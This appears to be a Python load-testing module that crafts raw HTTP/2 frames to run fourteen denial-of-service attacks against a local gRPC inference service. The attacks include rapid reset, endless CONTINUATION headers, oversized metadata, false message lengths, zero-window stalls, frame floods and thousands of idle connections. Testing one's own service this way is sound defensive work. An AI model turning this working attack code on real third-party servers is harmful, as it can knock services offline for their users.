"""Callers that want to stop the port of gRPC, as frames of HTTP/2 that no library would send.

    python -m tests.load.abuse.grpc_attacks "gRPC unread streams" 8001

Prints one line of JSON: how often what happened.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import resource
import struct
import sys
from collections import Counter
from collections.abc import AsyncIterator, Callable, Coroutine, Iterable
from contextlib import asynccontextmanager

import numpy as np

from service.api.protocols.open_inference.grpc_service import open_inference_pb2 as pb

Happened = Counter[str]
Attack = Callable[[int], Coroutine[None, None, Happened]]

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 1, 4
INITIAL_WINDOW = 4
_MAX_FRAME_BYTES = 16_384
_WINDOW_BYTES = 65_535
STREAM, UNARY = "ModelStreamInfer", "ModelInfer"
#: Longer than the service lets a client read nothing.
_HOLD_S = 35.0
_MESSAGE_BYTES = 2 * 1024 * 1024
_LANGUAGE_MODEL, _TAGGER = "shakespeare", "ner-en"


def frame(kind: int, stream: int = 0, payload: bytes = b"", flags: int = 0) -> bytes:
    """One frame of HTTP/2."""
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def settings(**values: int) -> bytes:
    """The first bytes of a client; `initial_window` is what it lets each stream send."""
    window = values.get("initial_window")
    payload = b"" if window is None else struct.pack(">HI", INITIAL_WINDOW, window)
    return PREFACE + frame(SETTINGS, 0, payload)


def call_headers(stream: int, method: str, more: Iterable[tuple[bytes, bytes]] = ()) -> bytes:
    """The frame that opens a call; no compression of headers is used."""
    fields = [
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", f"/inference.GRPCInferenceService/{method}".encode()),
        (b":authority", b"localhost"),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
        *more,
    ]
    block = b"".join(b"\0" + _string(name) + _string(value) for name, value in fields)
    if len(block) <= _MAX_FRAME_BYTES:
        return frame(HEADERS, stream, block, END_HEADERS)
    parts = [block[start : start + _MAX_FRAME_BYTES] for start in range(0, len(block), _MAX_FRAME_BYTES)]
    kinds = [HEADERS] + [CONTINUATION] * (len(parts) - 1)
    flags = [0] * (len(parts) - 1) + [END_HEADERS]
    return b"".join(frame(kind, stream, part, flag) for kind, part, flag in zip(kinds, parts, flags, strict=True))


def message(content: bytes, length: int | None = None) -> bytes:
    """A message of gRPC, with a length that may lie."""
    return b"\0" + struct.pack(">I", len(content) if length is None else length) + content


def data(stream: int, content: bytes, flags: int = 0) -> bytes:
    """Content in as many frames as it takes."""
    starts = range(0, len(content), _MAX_FRAME_BYTES) or (0,)
    last = starts[-1]
    return b"".join(
        frame(DATA, stream, content[start : start + _MAX_FRAME_BYTES], flags if start == last else 0)
        for start in starts
    )


class Peer:
    """One connection, which answers what keeps it open, and counts what ends its calls."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.writer = writer
        self.happened: Happened = Counter()
        self.window = _WINDOW_BYTES
        self.windows: Counter[int] = Counter()
        self.stream_window = _WINDOW_BYTES
        self.changed = asyncio.Event()
        self.is_closed = False
        self._reader = reader
        self.reading = asyncio.ensure_future(self._read())

    async def _read(self) -> None:
        with contextlib.suppress(OSError, asyncio.IncompleteReadError):
            while True:
                head = await self._reader.readexactly(9)
                payload = await self._reader.readexactly(int.from_bytes(head[:3]))
                self._take(head[3], head[4], int.from_bytes(head[5:9]), payload)
                self.changed.set()
        self.is_closed = True
        self.happened["connection closed"] += 1
        self.changed.set()

    def _take(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        if kind == SETTINGS and not flags & 1:
            for start in range(0, len(payload), 6):
                name, value = struct.unpack(">HI", payload[start : start + 6])
                if name == INITIAL_WINDOW:
                    self.stream_window = value
            self.writer.write(frame(SETTINGS, flags=1))
        elif kind == PING and not flags & 1:
            self.writer.write(frame(PING, 0, payload, 1))
        elif kind == WINDOW_UPDATE:
            grant = int.from_bytes(payload)
            if stream:
                self.windows[stream] += grant
            else:
                self.window += grant
        elif kind == HEADERS and flags & END_STREAM:
            self.happened["call ended"] += 1
        elif kind == RST_STREAM:
            self.happened["call reset"] += 1
        elif kind == GOAWAY:
            self.happened["told to go away"] += 1

    async def send(self, stream: int, content: bytes) -> None:
        """Content on a stream, no faster than the windows of the service allow. Raises TimeoutError."""
        while content:
            room = min(self.window, self.stream_window + self.windows[stream], _MAX_FRAME_BYTES)
            if room <= 0:
                self.changed.clear()
                if self.is_closed:
                    return
                await asyncio.wait_for(self.changed.wait(), 5.0)
                continue
            part, content = content[:room], content[room:]
            self.window -= len(part)
            self.windows[stream] -= len(part)
            self.writer.write(frame(DATA, stream, part))
            await self.writer.drain()


@asynccontextmanager
async def connected(port: int, first: bytes) -> AsyncIterator[Peer]:
    """A connection that has sent its first bytes. Raises OSError."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    writer.write(first)
    peer = Peer(reader, writer)
    try:
        yield peer
    finally:
        peer.reading.cancel()
        writer.close()


async def unread_streams(port: int) -> Happened:
    """2,000 streams on 20 connections, each with an answer for a language model that is never read."""
    asked = message(_text_request(_LANGUAGE_MODEL, b"ROMEO:").SerializeToString())
    return await _streams(port, 20, 100, asked, settings(initial_window=0))


async def unread_large_answers(port: int) -> Happened:
    """2,000 streams on 20 connections, each with eight requests whose answers are never read."""
    asked = message(_text_request(_TAGGER, b"word " * 200).SerializeToString()) * 8
    return await _streams(port, 20, 100, asked, settings(initial_window=0))


async def idle_connections(port: int) -> Happened:
    """5,000 connections that only greet."""
    return await _many(port, 5_000, settings(), 15.0)


async def silent_connections(port: int) -> Happened:
    """5,000 connections that say nothing."""
    return await _many(port, 5_000, b"", 15.0)


async def half_messages(port: int) -> Happened:
    """1,000 unary calls on 10 connections that announce 1 MB and send half of it."""
    return await _streams(port, 10, 100, message(b"x" * 500_000, 1_000_000), settings(), UNARY)


async def large_messages(port: int) -> Happened:
    """200 streams on 4 connections, each with a message of 2 MB that lacks its last byte."""
    return await _streams(port, 4, 50, message(b"x" * (_MESSAGE_BYTES - 1), _MESSAGE_BYTES), settings())


async def large_messages_apart(port: int) -> Happened:
    """1,000 connections, each with a stream and a message of 2 MB that lacks its last byte."""
    return await _streams(port, 1_000, 1, message(b"x" * (_MESSAGE_BYTES - 1), _MESSAGE_BYTES), settings())


async def large_metadata(port: int) -> Happened:
    """20 calls, each with metadata of 8 MB."""
    return await _each(port, 20, settings() + call_headers(1, UNARY, [(b"x", b"y" * (8 * 1024 * 1024))]))


async def endless_metadata(port: int) -> Happened:
    """20 calls, whose header never ends: 2,000 parts of 16 KB."""
    part = frame(CONTINUATION, 1, b"\0" + _string(b"x") + _string(b"y" * 16_000))
    first = frame(HEADERS, 1, b"\0" + _string(b":method") + _string(b"POST"))
    return await _each(port, 20, settings() + first + part * 2_000)


async def rapid_reset(port: int) -> Happened:
    """50,000 streams that are opened and cancelled at once."""
    happened: Happened = Counter()
    async with connected(port, settings()) as peer:
        for stream in range(1, 100_001, 2):
            asked = data(stream, message(_text_request(_TAGGER, b"word").SerializeToString()), END_STREAM)
            peer.writer.write(call_headers(stream, UNARY) + asked + frame(RST_STREAM, stream, b"\0\0\0\x08"))
            happened["streams opened"] += 1
            if stream % 200 == 1:
                await asyncio.sleep(0)
                try:
                    await asyncio.wait_for(peer.writer.drain(), 20.0)
                except OSError:
                    break
                if peer.is_closed:
                    break
        await asyncio.sleep(5.0)
        return happened + peer.happened


async def floods_of_frames(port: int) -> Happened:
    """100,000 pings, settings and empty parts of messages each, whose answers are not read."""
    kinds = (frame(PING, 0, b"12345678"), frame(SETTINGS), call_headers(1, STREAM) + frame(DATA, 1))
    happened: Happened = Counter()
    for one in kinds:
        rest = one if one[3] != HEADERS else frame(DATA, 1)
        happened += await _each(port, 1, settings() + one + rest * 100_000)
    return happened


async def other_protocols(port: int) -> Happened:
    """HTTP/1.1, a handshake of TLS, random bytes and zeros, 500 of each."""
    random = np.random.default_rng(0).bytes(4096)
    forms = (
        b"POST /predict HTTP/1.1\r\nHost: localhost\r\nContent-Length: 2\r\n\r\n{}",
        bytes.fromhex("16030100f8010000f40303") + random[:240],
        random,
        b"\0" * 4096,
        PREFACE + random,
    )
    happened: Happened = Counter()
    for form in forms:
        happened += await _many(port, 500, form, 0.5)
    return happened


async def claimed_length(port: int) -> Happened:
    """500 calls of both kinds that claim a message of 4 GB."""
    asked = message(b"x" * 60_000, 2**32 - 1)
    return await _streams(port, 5, 50, asked, settings(), UNARY) + await _streams(port, 5, 50, asked, settings())


async def slow_windows(port: int) -> Happened:
    """500 streams that let the service send one byte a second."""
    asked = message(_text_request(_TAGGER, b"word " * 200).SerializeToString())
    return await _streams(port, 10, 50, asked, settings(initial_window=0), grants=True)


ATTACKS: dict[str, Attack] = {
    "gRPC unread streams": unread_streams,
    "gRPC unread large answers": unread_large_answers,
    "gRPC idle connections": idle_connections,
    "gRPC silent connections": silent_connections,
    "gRPC half messages": half_messages,
    "gRPC large messages": large_messages,
    "gRPC large messages apart": large_messages_apart,
    "gRPC large metadata": large_metadata,
    "gRPC endless metadata": endless_metadata,
    "gRPC rapid reset": rapid_reset,
    "gRPC floods of frames": floods_of_frames,
    "gRPC other protocols": other_protocols,
    "gRPC claimed length": claimed_length,
    "gRPC slow windows": slow_windows,
}


def _string(value: bytes) -> bytes:
    """A string as HPACK has it."""
    length = len(value)
    if length < 127:
        return bytes((length,)) + value
    length -= 127
    digits = [127]
    while length >= 128:
        digits.append(length % 128 + 128)
        length //= 128
    return bytes((*digits, length)) + value


def _text_request(model: str, text: bytes) -> pb.ModelInferRequest:
    name = "text_input" if model == _LANGUAGE_MODEL else "text"
    form = pb.ModelInferRequest.InferInputTensor(name=name, datatype="BYTES", shape=[1])
    raw = len(text).to_bytes(4, "little") + text
    return pb.ModelInferRequest(model_name=model, inputs=[form], raw_input_contents=[raw])


async def _streams(
    port: int,
    connections: int,
    streams: int,
    content: bytes,
    first: bytes,
    method: str = STREAM,
    *,
    grants: bool = False,
) -> Happened:
    """Connections with as many calls each, which send content and hold on."""
    happened: Happened = Counter()

    async def one() -> None:
        try:
            async with connected(port, first) as peer, asyncio.timeout(_HOLD_S):
                try:
                    for stream in range(1, 2 * streams, 2):
                        peer.writer.write(call_headers(stream, method))
                        with contextlib.suppress(TimeoutError):
                            await peer.send(stream, content)
                        happened["calls opened"] += 1
                    while not peer.is_closed:
                        await asyncio.sleep(1.0)
                        if grants:
                            updates = [frame(WINDOW_UPDATE, stream, b"\0\0\0\1") for stream in range(1, 2 * streams, 2)]
                            peer.writer.write(b"".join(updates))
                finally:
                    happened.update(peer.happened)
        except TimeoutError:
            happened["held to the end"] += 1
        except OSError:
            happened["cut"] += 1

    await asyncio.gather(*(one() for _ in range(connections)))
    return happened


async def _each(port: int, number: int, content: bytes) -> Happened:
    """Connections, one after another, that send content and wait a little."""
    happened: Happened = Counter()
    for _ in range(number):
        try:
            async with connected(port, b"") as peer:
                peer.writer.write(content)
                with contextlib.suppress(TimeoutError):
                    await asyncio.wait_for(peer.writer.drain(), 5.0)
                await asyncio.sleep(0.2)
                happened += peer.happened
        except OSError:
            happened["cut"] += 1
    return happened


async def _many(port: int, number: int, content: bytes, hold_s: float) -> Happened:
    """Connections that are all open at once."""
    happened: Happened = Counter()
    async with contextlib.AsyncExitStack() as stack:
        peers = []
        for _ in range(number):
            try:
                peers.append(await asyncio.wait_for(stack.enter_async_context(connected(port, content)), 5.0))
            except OSError:
                happened["no connection"] += 1
        await asyncio.sleep(hold_s)
        happened["left open"] = sum(not peer.is_closed for peer in peers)
        for peer in peers:
            happened.update(peer.happened)
    return happened


if __name__ == "__main__":
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    print(json.dumps(asyncio.run(ATTACKS[sys.argv[1]](int(sys.argv[2])))))
